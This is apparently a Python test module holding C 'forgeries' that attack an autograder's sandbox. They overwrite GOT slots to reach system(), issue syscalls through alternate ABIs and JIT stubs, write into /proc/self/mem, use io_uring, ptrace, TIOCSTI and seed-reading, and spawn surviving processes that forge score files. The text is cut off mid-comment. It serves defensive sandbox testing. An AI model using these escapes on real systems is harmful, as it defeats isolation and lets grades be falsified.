"""Forgeries that attack the sandbox itself (tests/graded/sandbox/sandbox.h), for forgeries.py.

Each is machine code a student who has read the sandbox's source might hand in: it
tries to reach a shell, a file or another process through the system calls, the
descriptors and the files a runner has. The static checks refuse every one of them
(assembly, calls outside the lesson's list), so each is also graded with them off
(`unchecked`), where only the sandbox stands between it and the grade, and, with
`layers`, with some of the sandbox's layers switched off as well (GRADE_SANDBOX_LAYERS,
sandbox.h): "-ns,-landlock,-user" leaves the system-call filter alone (as root: the
runner keeps the grader's user), "-ns" is a machine without namespaces, as Docker runs
Gradescope's autograders.

Every attack says so when a step that the sandbox must stop succeeds: it prints a line
starting with `rt-escaped:` (selftest.py fails a forgery whose run log or results show
one), and a shell it got prints one too, writes files at the paths of @MARKS@
(selftest.py checks that none exists afterwards) and hands the driver a results file
with every case passed, as forgeries.FORGED_RESULTS_SCRIPT does. So a forgery fails
the self-test either way: by its score, or by saying what got through.

In code, besides forgeries.py's @ROOT@: @MARKS@ is a list of paths outside the runner's
reach, @OUT@ the grade's output folder, @BUILD@ the build tree (build/rel).

The file is one table, SANDBOX_FORGERIES at its end, and above it the C of the attacks it
names, one family of the sandbox's layers after another.
"""

# The C every attack of a lesson's .c file starts from (put at the top of the file).
PRELUDE = r"""#define _GNU_SOURCE
#include <dirent.h>
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <ucontext.h>
#include <unistd.h>

/* A system call without the C library: the arguments in rdi, rsi, rdx, r10, r8, r9. */
static long rt_sys(long n, long a, long b, long c, long d, long e, long f)
{
    register long r10 __asm__("r10") = d;
    register long r8 __asm__("r8") = e;
    register long r9 __asm__("r9") = f;
    long r;
    __asm__ volatile("syscall"
                     : "=a"(r)
                     : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
                     : "rcx", "r11", "memory");
    return r;
}

/* What a shell that got out does: say so (in words its own text does not hold), leave
 * files where the runner may not write, and forge the results. */
static const char rt_script[] =
    "echo \"rt-\"\"escaped: a shell runs (user $(id -u))\" >&2; "
    "for m in @MARKS@; do echo escaped > \"$m\"; done 2>/dev/null; @FORGE@";

/* A step the sandbox must have stopped went through. */
static void rt_escaped(const char *what, long r)
{
    dprintf(2, "rt-escaped: %s (it returned %ld)\n", what, r);
}

/* The filter refuses most calls with SIGSYS; this handler tells such a refusal from an
 * answer of the kernel (and makes the call return EPERM, as the runner's does). */
static volatile int rt_trapped;
static void rt_on_sigsys(int sig, siginfo_t *si, void *context)
{
    (void)sig, (void)si;
    rt_trapped = 1;
    ((ucontext_t *)context)->uc_mcontext.gregs[REG_RAX] = -EPERM;
}
static void rt_watch(void)
{
    struct sigaction sa;
    memset(&sa, 0, sizeof sa);
    sa.sa_sigaction = rt_on_sigsys;
    sa.sa_flags = SA_SIGINFO | SA_NODEFER;
    sigaction(SIGSYS, &sa, NULL);
}

/* Make a call the filter must refuse: if it reached the kernel, say so. */
static long rt_try(const char *what, long n, long a, long b, long c, long d, long e, long f)
{
    rt_trapped = 0;
    long r = rt_sys(n, a, b, c, d, e, f);
    if (!rt_trapped && r != -EPERM && r != -ENOSYS) rt_escaped(what, r);
    return r;
}

/* The shell, started in place of this process (execve). */
static void rt_exec_shell(const char *how)
{
    static const char sh[] = "/bin/sh", c[] = "-c";
    const char *argv[] = {sh, c, rt_script, NULL};
    rt_try(how, SYS_execve, (long)sh, (long)argv, 0, 0, 0, 0);
}

/* The shell in a new process: clone with @p flags (fork's are SIGCHLD), then wait. */
static void rt_spawn_shell(const char *how, long flags)
{
    long pid = rt_try(how, SYS_clone, flags, 0, 0, 0, 0, 0);
    if (pid == 0) {
        rt_exec_shell("execve in the new process");
        rt_sys(SYS_exit_group, 127, 0, 0, 0, 0, 0);
    }
    if (pid > 0) rt_sys(SYS_wait4, pid, 0, 0, 0, 0, 0);
}

/* Read a small file whole (a /proc file); its length, or -1. */
static long rt_read(const char *path, char *buf, size_t size)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return -1;
    size_t n = 0;
    ssize_t got;
    while (n < size - 1 && (got = read(fd, buf + n, size - 1 - n)) > 0) n += (size_t)got;
    close(fd);
    buf[n] = '\0';
    return (long)n;
}

/* The grader's other processes this one can see: those whose command line names this
 * grading run (its output folder: the judge, the driver, make grade). (Not the whole
 * machine's: if the sandbox did not hold, the attacks below should not reach the rest.) */
static int rt_mine(long pid)
{
    char path[64], text[4096];
    snprintf(path, sizeof path, "/proc/%ld/cmdline", pid);
    long len = rt_read(path, text, sizeof text);
    for (long k = 0; k < len; k++)
        if (!text[k]) text[k] = ' ';
    return len > 0 && strstr(text, "@NAME@") != NULL;
}

static int rt_others(long *pids, int max)
{
    int n = 0;
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && n < max && (e = readdir(d))) {
        long p = atol(e->d_name);
        if (p > 0 && p != getpid() && rt_mine(p)) pids[n++] = p;
    }
    if (d) closedir(d);
    return n;
}
"""

L01 = ["01.1", "01.2", "01.3", "01.4", "01.5", "01.6", "01.7", "01.8", "01"]
L06 = ["06.1", "06.2", "06.3", "06.4", "06"]

# Only the filter: as root, the runner then keeps the grader's user and may not write.
FILTER_ONLY = "-ns,-landlock,-user"
# No namespaces, as in Docker's default profile (filter, user 65534, Landlock).
NO_NAMESPACES = "-ns"
# Namespaces whose view of the files is not read-only (a kernel before 5.12), as root
# without another user or Landlock: only the filter keeps the runner's writes in.
WRITABLE_VIEW = "-readonly,-user,-landlock"
# As root without namespaces or Landlock (a kernel without either): only the filter and the
# runner's user of its own.
USER_ONLY = "-ns,-landlock"
# Namespaces whose view is not read-only, Landlock keeping writes to the private /tmp.
NO_READONLY = "-readonly"

# ---- the C library's code pointers: system() through a slot of libc and of the runner

GOT_SLOTS = PRELUDE + r"""
#include "lib/core/err.h"

/* The first mapping of the file that holds address a (where its ELF header is). */
static uintptr_t rt_base_of(uintptr_t a)
{
    static char maps[1 << 18];
    if (rt_read("/proc/self/maps", maps, sizeof maps) <= 0) return 0;
    char file[512] = "";
    for (char *l = maps; *l; l = strchr(l, '\n') ? strchr(l, '\n') + 1 : l + strlen(l)) {
        unsigned long lo, hi;
        char path[512] = "";
        if (sscanf(l, "%lx-%lx %*s %*s %*s %*s %511s", &lo, &hi, path) == 3 && lo <= a && a < hi) {
            strcpy(file, path);
            break;
        }
    }
    for (char *l = maps; file[0] && *l; l = strchr(l, '\n') ? strchr(l, '\n') + 1 : l + strlen(l)) {
        unsigned long lo, off;
        char path[512] = "";
        if (sscanf(l, "%lx-%*x %*s %lx %*s %*s %511s", &lo, &off, path) == 3 && off == 0 &&
            strcmp(path, file) == 0)
            return lo;
    }
    return 0;
}

/* A loaded object's dynamic tables, read from its program headers. */
typedef struct RtElf {
    uintptr_t base, pltgot;
    const Elf64_Sym *sym;
    const char *str;
    size_t nsym;
    const Elf64_Rela *rel[2];
    size_t nrel[2];
} RtElf;

static int rt_elf(uintptr_t base, RtElf *e)
{
    memset(e, 0, sizeof *e);
    const Elf64_Ehdr *eh = (const Elf64_Ehdr *)base;
    if (!base || memcmp(eh->e_ident, ELFMAG, SELFMAG) != 0) return -1;
    e->base = base;
    const Elf64_Phdr *ph = (const Elf64_Phdr *)(base + eh->e_phoff);
    const Elf64_Dyn *dyn = NULL;
    for (int i = 0; i < eh->e_phnum; i++)
        if (ph[i].p_type == PT_DYNAMIC) dyn = (const Elf64_Dyn *)(base + ph[i].p_vaddr);
    for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
        uintptr_t p = dyn->d_un.d_ptr < base ? base + dyn->d_un.d_ptr : dyn->d_un.d_ptr;
        switch (dyn->d_tag) {
        case DT_SYMTAB: e->sym = (const Elf64_Sym *)p; break;
        case DT_STRTAB: e->str = (const char *)p; break;
        case DT_JMPREL: e->rel[0] = (const Elf64_Rela *)p; break;
        case DT_PLTRELSZ: e->nrel[0] = dyn->d_un.d_val / sizeof(Elf64_Rela); break;
        case DT_RELA: e->rel[1] = (const Elf64_Rela *)p; break;
        case DT_RELASZ: e->nrel[1] = dyn->d_un.d_val / sizeof(Elf64_Rela); break;
        case DT_PLTGOT: e->pltgot = p; break;
        }
    }
    if (!e->sym || !e->str || (uintptr_t)e->str <= (uintptr_t)e->sym) return -1;
    e->nsym = ((uintptr_t)e->str - (uintptr_t)e->sym) / sizeof(Elf64_Sym);
    return 0;
}

/* The address of a function the object defines. */
static uintptr_t rt_symbol(const RtElf *e, const char *name)
{
    for (size_t i = 0; i < e->nsym; i++)
        if (e->sym[i].st_shndx != SHN_UNDEF && e->sym[i].st_value &&
            strcmp(e->str + e->sym[i].st_name, name) == 0)
            return e->base + e->sym[i].st_value;
    return 0;
}

/* The slot through which the object calls an imported function. */
static uintptr_t *rt_slot(const RtElf *e, const char *name)
{
    for (int t = 0; t < 2; t++)
        for (size_t i = 0; e->rel[t] && i < e->nrel[t]; i++) {
            size_t s = ELF64_R_SYM(e->rel[t][i].r_info);
            if (s && s < e->nsym && strcmp(e->str + e->sym[s].st_name, name) == 0)
                return (uintptr_t *)(e->base + e->rel[t][i].r_offset);
        }
    return NULL;
}

/* system(), found from stdout (a FILE of the C library) through libc's ELF tables. */
static uintptr_t rt_system(void)
{
    RtElf libc;
    if (rt_elf(rt_base_of((uintptr_t)stdout), &libc) != 0) return 0;
    return rt_symbol(&libc, "system");
}

/* libc's .got.plt stays writable: the slot through which its own functions call strlen
 * (puts among them) gets system, and puts(script) runs the script. */
static void rt_libc_slot(void)
{
    RtElf libc;
    uintptr_t sys = rt_system(), strlen_code = (uintptr_t)&strlen;
    if (!sys || rt_elf(rt_base_of((uintptr_t)stdout), &libc) != 0 || !libc.pltgot) {
        dprintf(2, "rt: libc's tables were not found\n");
        return;
    }
    uintptr_t *slots = (uintptr_t *)libc.pltgot;
    for (size_t i = 3; i < libc.nrel[0] + 3; i++)
        if (slots[i] == strlen_code) {
            slots[i] = sys;
            puts(rt_script);
            slots[i] = strlen_code;
            return;
        }
    dprintf(2, "rt: no slot of libc holds strlen\n");
}

/* The runner's slot of strlen (read-only after relocation: mprotect makes it writable
 * again) gets system; the runner then measures the exercise's error message with it. */
static int rt_runner_slot(void)
{
    RtElf runner;
    uintptr_t sys = rt_system();
    uintptr_t *slot = NULL;
    if (sys && rt_elf(rt_base_of((uintptr_t)&err_set), &runner) == 0)
        slot = rt_slot(&runner, "strlen");
    if (!slot) {
        dprintf(2, "rt: the runner's slot of strlen was not found\n");
        return 0;
    }
    uintptr_t page = (uintptr_t)slot & ~(uintptr_t)4095;
    if (mprotect((void *)page, 4096, PROT_READ | PROT_WRITE) != 0) return 0;
    *slot = sys;
    return err_set(ERR_ARG, "%s", rt_script);
}
"""

# ---- the same system calls through the machine's other ABIs ------------------------------

OTHER_ABIS = r"""
/* "/bin/sh -c script" with 32-bit pointers, in the lowest 2 GB: both ABIs read them so. */
static uint32_t *rt_low_argv(void)
{
    static char *low;
    if (!low)
        low = mmap(NULL, 1 << 16, PROT_READ | PROT_WRITE,
                   MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (low == MAP_FAILED) return NULL;
    char *s = low + 64;
    strcpy(s, "/bin/sh");
    strcpy(s + 16, "-c");
    strcpy(s + 32, rt_script);
    uint32_t *argv = (uint32_t *)low;
    argv[0] = (uint32_t)(uintptr_t)s, argv[1] = (uint32_t)(uintptr_t)(s + 16);
    argv[2] = (uint32_t)(uintptr_t)(s + 32), argv[3] = 0;
    return argv;
}

static void rt_int80(void)
{
    uint32_t *argv = rt_low_argv();
    if (!argv) return;
    long r;
    __asm__ volatile("int $0x80"
                     : "=a"(r)
                     : "a"(11L), "b"((long)argv[0]), "c"((long)(uintptr_t)argv), "d"(0L)
                     : "memory");
    rt_escaped("execve through int $0x80 (i386) returned", r);
}

static void rt_x32(void)
{
    uint32_t *argv = rt_low_argv();
    if (!argv) return;
    long r = rt_sys(0x40000000L | 520, (long)argv[0], (long)(uintptr_t)argv, 0, 0, 0, 0);
    rt_escaped("execve through the x32 ABI returned", r);
}
"""

# ---- the machine code of a system call, written at run time ---------------------------

JIT = r"""
/* mov rdi->rax, rsi->rdi, rdx->rsi, rcx->rdx; syscall; ret */
static const unsigned char rt_stub[] = {0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89, 0xd6,
                                        0x48, 0x89, 0xca, 0x0f, 0x05, 0xc3};

static void rt_jit(void)
{
    typedef long (*Sys)(long, long, long, long);
    static const char sh[] = "/bin/sh", c[] = "-c";
    const char *argv[] = {sh, c, rt_script, NULL};
    /* new executable memory */
    void *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS,
                   -1, 0);
    if (p != MAP_FAILED) {
        rt_escaped("mmap of executable memory after the seal", 0);
        memcpy(p, rt_stub, sizeof rt_stub);
        ((Sys)p)(SYS_execve, (long)sh, (long)argv, 0);
    }
    /* memory made executable */
    static unsigned char page[8192] __attribute__((aligned(4096)));
    memcpy(page, rt_stub, sizeof rt_stub);
    if (mprotect(page, 4096, PROT_READ | PROT_EXEC) == 0) {
        rt_escaped("mprotect to executable after the seal", 0);
        ((Sys)(void *)page)(SYS_execve, (long)sh, (long)argv, 0);
    }
    /* a file of its own, mapped executable, and run as a program (execveat) */
    int fd = (int)rt_try("memfd_create", SYS_memfd_create, (long)"rt", 0, 0, 0, 0, 0);
    if (fd >= 0) {
        if (write(fd, rt_stub, sizeof rt_stub) == (ssize_t)sizeof rt_stub) {
            void *q = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
            if (q != MAP_FAILED) ((Sys)q)(SYS_execve, (long)sh, (long)argv, 0);
        }
        int prog = (int)rt_sys(SYS_memfd_create, (long)"rt-program", 0, 0, 0, 0, 0);
        if (prog >= 0 && dprintf(prog, "#!/bin/sh\n%s\n", rt_script) > 0) {
            const char *none[] = {"rt", NULL};
            rt_try("execveat of a memfd", SYS_execveat, prog, (long)"", (long)none, (long)none,
                   0x1000 /* AT_EMPTY_PATH */, 0);
        }
    }
}
"""

# ---- the runner's own memory through /proc: code written into its text after the seal ---

PROC_MEM = r"""
/* The target: a function of this file, in read-only, executable memory. */
__attribute__((noinline)) static long rt_target(long n, long a, long b, long c)
{
    return n + a + b + c;
}

/* Open the runner's own memory for writing (every name of it), and write the system-call
 * stub of rt_stub over rt_target's code, then call it: new machine code without mmap or
 * mprotect, which the kernel lets a process do to itself through /proc. */
static void rt_proc_mem(void)
{
    static const unsigned char stub[] = {0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89, 0xd6,
                                         0x48, 0x89, 0xca, 0x0f, 0x05, 0xc3};
    static const char sh[] = "/bin/sh", c[] = "-c";
    const char *argv[] = {sh, c, rt_script, NULL};
    char paths[4][64];
    snprintf(paths[0], sizeof paths[0], "/proc/self/mem");
    snprintf(paths[1], sizeof paths[1], "/proc/thread-self/mem");
    snprintf(paths[2], sizeof paths[2], "/proc/%d/mem", (int)getpid());
    snprintf(paths[3], sizeof paths[3], "/proc/%d/task/%d/mem", (int)getpid(), (int)gettid());
    static const int modes[] = {O_RDWR, O_WRONLY};
    for (int i = 0; i < 4; i++)
        for (int m = 0; m < 2; m++) {
            /* (refused by the filter, a read-only /proc, Landlock or the file's owner: any
             * error will do) */
            int fd = (int)rt_sys(SYS_openat, AT_FDCWD, (long)paths[i], modes[m] | O_CLOEXEC, 0,
                                 0, 0);
            if (fd < 0) continue;
            char what[120];
            snprintf(what, sizeof what, "%s opened for writing after the seal", paths[i]);
            rt_escaped(what, fd);
            long w = pwrite(fd, stub, sizeof stub, (off_t)(uintptr_t)&rt_target);
            if (w == (long)sizeof stub) {
                rt_escaped("new code written into its own text through /proc", w);
                rt_target(SYS_execve, (long)sh, (long)argv, 0);
            }
            close(fd);
        }
}
"""

# ---- io_uring: files opened and written by the kernel on the process's behalf ----------

IO_URING = r"""
#include <linux/io_uring.h>
/* One request (open a file for writing) through io_uring: its operations are not system
 * calls, so a filter that allowed io_uring_setup would not see them. */
static void rt_uring(const char *path)
{
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    long fd = rt_try("io_uring_setup", SYS_io_uring_setup, 4, (long)&p, 0, 0, 0, 0);
    if (fd < 0) return;
    size_t sq_size = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    size_t cq_size = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    char *sq = mmap(NULL, sq_size, PROT_READ | PROT_WRITE, MAP_SHARED, (int)fd, IORING_OFF_SQ_RING);
    char *cq = mmap(NULL, cq_size, PROT_READ | PROT_WRITE, MAP_SHARED, (int)fd, IORING_OFF_CQ_RING);
    struct io_uring_sqe *sqes = mmap(NULL, p.sq_entries * sizeof *sqes, PROT_READ | PROT_WRITE,
                                     MAP_SHARED, (int)fd, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) return;
    memset(&sqes[0], 0, sizeof sqes[0]);
    sqes[0].opcode = IORING_OP_OPENAT;
    sqes[0].fd = AT_FDCWD;
    sqes[0].addr = (unsigned long)path;
    sqes[0].open_flags = O_WRONLY | O_CREAT | O_TRUNC;
    sqes[0].len = 0644;
    unsigned *tail = (unsigned *)(sq + p.sq_off.tail);
    unsigned *array = (unsigned *)(sq + p.sq_off.array);
    array[*tail & *(unsigned *)(sq + p.sq_off.ring_mask)] = 0;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
    rt_sys(SYS_io_uring_enter, fd, 1, 1, IORING_ENTER_GETEVENTS, 0, 0);
    struct io_uring_cqe *cqe = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
    if (cqe[0].res >= 0) rt_escaped("a file opened for writing through io_uring", cqe[0].res);
}
"""

# ---- the grader's files and processes ----------------------------------------------------

FILES = r"""
/* Open for writing (appending, so nothing changes if it works) what the judge writes, what
 * runs later, and new files beside them; link, symlink and FIFO over the results. */
static void rt_files(void)
{
    static const char *const existing[] = {
        "@OUT@/results.json", "@OUT@/score.txt", "@OUT@/lesson01.tsv", "@OUT@/judge_01.log",
        "@BUILD@/grade/judge01", "@BUILD@/grade/judge02", "@BUILD@/grade/driver",
        "@BUILD@/grade/ref/01.records", "@ROOT@/Makefile", "@ROOT@/tests/graded/judge/judge.c",
        "@ROOT@/.git/config", "@HOME@/.bashrc", "@HOME@/.profile", "/etc/passwd", "/etc/profile"};
    static const char *const fresh[] = {"@OUT@/rt-new", "@BUILD@/grade/rt-new-@NAME@",
                                        "@ROOT@/rt-new-@NAME@", "@HOME@/rt-new-@NAME@",
                                        "/var/tmp/rt-new-@NAME@"};
    char line[600];
    for (size_t i = 0; i < sizeof existing / sizeof existing[0]; i++) {
        long fd = rt_sys(SYS_openat, AT_FDCWD, (long)existing[i], O_WRONLY | O_APPEND, 0, 0, 0);
        snprintf(line, sizeof line, "%s opened for writing", existing[i]);
        if (fd >= 0) rt_escaped(line, fd);
    }
    for (size_t i = 0; i < sizeof fresh / sizeof fresh[0]; i++) {
        long fd = rt_sys(SYS_openat, AT_FDCWD, (long)fresh[i], O_WRONLY | O_CREAT | O_EXCL, 0644,
                         0, 0);
        snprintf(line, sizeof line, "%s made", fresh[i]);
        if (fd >= 0) rt_escaped(line, fd);
    }
    /* (where the TSV will be: a FIFO there is what FORGED_RESULTS_SCRIPT makes) */
    rt_try("mknod of a FIFO", SYS_mknodat, AT_FDCWD, (long)"@OUT@/rt-fifo", S_IFIFO | 0666, 0, 0,
           0);
    rt_try("symlink", SYS_symlinkat, (long)"/dev/null", AT_FDCWD, (long)"@OUT@/rt-symlink", 0, 0,
           0);
    rt_try("link", SYS_linkat, AT_FDCWD, (long)"/dev/null", AT_FDCWD, (long)"@OUT@/rt-link", 0, 0);
    rt_try("chmod", SYS_fchmodat, AT_FDCWD, (long)"@OUT@", 0755, 0, 0, 0);
    rt_try("truncate", SYS_truncate, (long)"@OUT@/compile_01.log", 0, 0, 0, 0, 0);
    rt_uring("@OUT@/rt-uring");
    /* the descriptors of the grader's other processes (not their terminals and devices; a
     * pipe without a reader answers at once) */
    long pids[256];
    int n = rt_others(pids, 256);
    struct stat own[4];
    for (int fd = 0; fd < 4; fd++)
        if (fstat(fd, &own[fd]) != 0) memset(&own[fd], 0, sizeof own[fd]);
    for (int i = 0; i < n; i++)
        for (int fd = 0; fd < 64; fd++) {
            char path[64];
            snprintf(path, sizeof path, "/proc/%ld/fd/%d", pids[i], fd);
            struct stat target;
            if (stat(path, &target) != 0 || S_ISCHR(target.st_mode) || S_ISBLK(target.st_mode))
                continue;
            long w = rt_sys(SYS_openat, AT_FDCWD, (long)path,
                            O_WRONLY | O_APPEND | O_NONBLOCK | O_NOCTTY, 0, 0, 0);
            if (w < 0) continue;
            struct stat st;
            int ours = 0;
            if (fstat((int)w, &st) == 0)
                for (int k = 0; k < 4; k++)
                    ours |= st.st_dev == own[k].st_dev && st.st_ino == own[k].st_ino;
            close((int)w);
            snprintf(line, sizeof line, "%s (another process's descriptor) opened for writing",
                     path);
            if (!ours) rt_escaped(line, w);
        }
}
"""

PROCESSES = r"""
/* The judge and the grader's other processes: what the filter must not let it do to them
 * (signal 0 and PTRACE_SEIZE change nothing if they work). */
static void rt_processes(void)
{
    long pids[256];
    int n = rt_others(pids, 256);
    char what[200];
    for (int i = 0; i < n; i++) {
        long pid = pids[i];
        snprintf(what, sizeof what, "kill(%ld, 0)", pid);
        rt_try(what, SYS_kill, pid, 0, 0, 0, 0, 0);
        snprintf(what, sizeof what, "tgkill(%ld, %ld, 0)", pid, pid);
        rt_try(what, SYS_tgkill, pid, pid, 0, 0, 0, 0);
        snprintf(what, sizeof what, "ptrace(PTRACE_ATTACH, %ld)", pid);
        if (rt_try(what, SYS_ptrace, 16 /* PTRACE_ATTACH */, pid, 0, 0, 0, 0) == 0)
            rt_sys(SYS_ptrace, 17 /* PTRACE_DETACH */, pid, 0, 0, 0, 0);
        snprintf(what, sizeof what, "ptrace(PTRACE_SEIZE, %ld)", pid);
        if (rt_try(what, SYS_ptrace, 0x4206 /* PTRACE_SEIZE */, pid, 0, 0, 0, 0) == 0)
            rt_sys(SYS_ptrace, 17 /* PTRACE_DETACH */, pid, 0, 0, 0, 0);
        char byte = 0;
        struct { void *base; size_t len; } local = {&byte, 1}, remote = {(void *)4096, 1};
        snprintf(what, sizeof what, "process_vm_writev into %ld", pid);
        rt_try(what, SYS_process_vm_writev, pid, (long)&local, 1, (long)&remote, 1, 0);
        snprintf(what, sizeof what, "pidfd_open(%ld)", pid);
        long pidfd = rt_try(what, SYS_pidfd_open, pid, 0, 0, 0, 0, 0);
        if (pidfd >= 0) rt_try("pidfd_getfd", SYS_pidfd_getfd, pidfd, 1, 0, 0, 0, 0);
    }
    rt_try("kill(getppid(), 0)", SYS_kill, getppid(), 0, 0, 0, 0, 0);
    rt_try("kill(0, 0): the process group", SYS_kill, 0, 0, 0, 0, 0, 0);
    rt_try("kill(-1, 0): every process", SYS_kill, -1, 0, 0, 0, 0, 0);
    rt_try("tkill(getppid(), 0)", SYS_tkill, getppid(), 0, 0, 0, 0, 0);
    rt_try("rt_sigqueueinfo(getppid())", SYS_rt_sigqueueinfo, getppid(), 0, 0, 0, 0, 0);
    rt_try("prctl(PR_SET_PDEATHSIG)", SYS_prctl, 1 /* PR_SET_PDEATHSIG */, SIGKILL, 0, 0, 0, 0);
    rt_try("prctl(PR_SET_PTRACER, any)", SYS_prctl, 0x59616d61 /* PR_SET_PTRACER */, -1, 0, 0,
           0, 0);
    rt_try("unshare(CLONE_NEWUSER)", SYS_unshare, 0x10000000, 0, 0, 0, 0, 0);
    rt_try("socket", SYS_socket, 1 /* AF_UNIX */, 1, 0, 0, 0, 0);
    /* a thread started before the filter would run without it (there should be none) */
    DIR *d = opendir("/proc/self/task");
    struct dirent *e;
    char path[128], status[4096];
    while (d && (e = readdir(d))) {
        snprintf(path, sizeof path, "/proc/self/task/%s/status", e->d_name);
        if (e->d_name[0] != '.' && rt_read(path, status, sizeof status) > 0 &&
            !strstr(status, "Seccomp:\t2")) {
            snprintf(what, sizeof what, "thread %s runs without the filter", e->d_name);
            rt_escaped(what, 0);
        }
    }
    if (d) closedir(d);
}

/* Keystrokes pushed into a terminal (TIOCSTI) run in the instructor's shell once the grader
 * exits. (A NULL byte address: if the call got through, the kernel answers EFAULT and
 * pushes nothing.) */
static void rt_terminals(void)
{
    static const char *const ttys[] = {"/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1",
                                       "/dev/pts/0", "/dev/pts/1", "/dev/pts/2", "/dev/pts/3",
                                       "/dev/ptmx"};
    char what[120];
    for (int fd = 0; fd < 8; fd++) {
        snprintf(what, sizeof what, "TIOCSTI on descriptor %d", fd);
        rt_try(what, SYS_ioctl, fd, 0x5412 /* TIOCSTI */, 0, 0, 0, 0);
    }
    for (size_t i = 0; i < sizeof ttys / sizeof ttys[0]; i++) {
        long fd = rt_sys(SYS_openat, AT_FDCWD, (long)ttys[i], O_RDONLY | O_NOCTTY, 0, 0, 0);
        if (fd < 0) continue;
        snprintf(what, sizeof what, "TIOCSTI on %s", ttys[i]);
        rt_try(what, SYS_ioctl, fd, 0x5412, 0, 0, 0, 0);
        snprintf(what, sizeof what, "TIOCSCTTY on %s", ttys[i]);
        rt_try(what, SYS_ioctl, fd, 0x540E /* TIOCSCTTY */, 1, 0, 0, 0);
        snprintf(what, sizeof what, "TCSETS on %s", ttys[i]);
        rt_try(what, SYS_ioctl, fd, 0x5402 /* TCSETS */, 0, 0, 0, 0);
        close((int)fd);
    }
    long pids[256];
    int n = rt_others(pids, 256);
    for (int i = 0; i < n; i++)
        for (int fd = 0; fd < 3; fd++) {
            char path[64];
            snprintf(path, sizeof path, "/proc/%ld/fd/%d", pids[i], fd);
            long t = rt_sys(SYS_openat, AT_FDCWD, (long)path, O_RDONLY | O_NOCTTY, 0, 0, 0);
            if (t < 0) continue;
            snprintf(what, sizeof what, "TIOCSTI on %s", path);
            rt_try(what, SYS_ioctl, t, 0x5412, 0, 0, 0, 0);
            close((int)t);
        }
    rt_try("setsid", SYS_setsid, 0, 0, 0, 0, 0, 0);
    rt_try("setpgid", SYS_setpgid, 0, 0, 0, 0, 0, 0);
    rt_try("TIOCNOTTY", SYS_ioctl, 0, 0x5422 /* TIOCNOTTY */, 0, 0, 0, 0);
}

/* The grading seed, the judge's environment and its arguments: none may name the seed. */
static void rt_seed(void)
{
    static char buf[1 << 16];
    char path[64], what[200];
    long pids[256];
    int n = rt_others(pids, 256);
    static const char *const own[] = {"/proc/self/environ", "/proc/self/cmdline"};
    for (int i = -2; i < 2 * n; i++) {
        if (i < 0)
            snprintf(path, sizeof path, "%s", own[i + 2]);
        else
            snprintf(path, sizeof path, "/proc/%ld/%s", pids[i / 2], i % 2 ? "cmdline" : "environ");
        long len = rt_read(path, buf, sizeof buf);
        for (long k = 0; k < len; k++)
            if (buf[k] == '\0') buf[k] = ' ';
        char *s = len > 0 ? strstr(buf, "GRADE_SEED") : NULL;
        snprintf(what, sizeof what, "%s names the seed: %.40s", path, s ? s : "");
        if (s) rt_escaped(what, 0);
    }
}
"""

SURVIVOR = r"""
/* A process that outlives the case and the driver, then rewrites the results: started by
 * every kind of process creation there is. Each would wait, then write. */
static void rt_survive(void)
{
    static const char sh[] = "/bin/sh", c[] = "-c";
    static const char later[] =
        "sleep 3; echo 'rt-''escaped: a process outlived its case' >&2; "
        "printf '104 104\\n' > @OUT@/score.txt; "
        "printf '{\"score\": 104, \"tests\": []}' > @OUT@/results.json";
    const char *argv[] = {sh, c, later, NULL};
    long flags[] = {17 /* SIGCHLD: fork */, 0x4111 /* CLONE_VM|CLONE_VFORK|SIGCHLD */,
                    0x10000000 | 17 /* CLONE_NEWUSER */, 0x20000000 | 17 /* CLONE_NEWPID */};
    for (size_t i = 0; i < sizeof flags / sizeof flags[0]; i++) {
        long pid = rt_try("clone of a process", SYS_clone, flags[i], 0, 0, 0, 0, 0);
        if (pid == 0) {
            rt_sys(SYS_setsid, 0, 0, 0, 0, 0, 0);
            rt_sys(SYS_execve, (long)sh, (long)argv, 0, 0, 0, 0);
            rt_sys(SYS_exit_group, 0, 0, 0, 0, 0, 0);
        }
    }
    long pid = rt_try("fork", SYS_fork, 0, 0, 0, 0, 0, 0);
    if (pid == 0) {
        rt_sys(SYS_execve, (long)sh, (long)argv, 0, 0, 0, 0);
        rt_sys(SYS_exit_group, 0, 0, 0, 0, 0, 0);
    }
    pid = rt_try("vfork", SYS_vfork, 0, 0, 0, 0, 0, 0);
    if (pid == 0) {
        rt_sys(SYS_execve, (long)sh, (long)argv, 0, 0, 0, 0);
        rt_sys(SYS_exit_group, 0, 0, 0, 0, 0, 0);
    }
    struct { unsigned long long flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size,
             tls; } args = {0, 0, 0, 0, SIGCHLD, 0, 0, 0};
    pid = rt_try("clone3", SYS_clone3, (long)&args, sizeof args, 0, 0, 0, 0);
    if (pid == 0) {
        rt_sys(SYS_execve, (long)sh, (long)argv, 0, 0, 0, 0);
        rt_sys(SYS_exit_group, 0, 0, 0, 0, 0, 0);
    }
    /* the C library's ways: posix_spawn (clone with CLONE_VFORK), system, popen */
    (void)system(later); /* (127 << 8 when no shell could start: the shell says) */
    FILE *p = popen(later, "r");
    if (p) rt_escaped("popen()", 0);
}
"""


# ---- what the runner must not see: the answers, compiled or not, and the reference runs

READ_ANSWERS = r"""
#include <dlfcn.h>
/* The answers' shared object of the grader's build, loaded by a constructor (before the
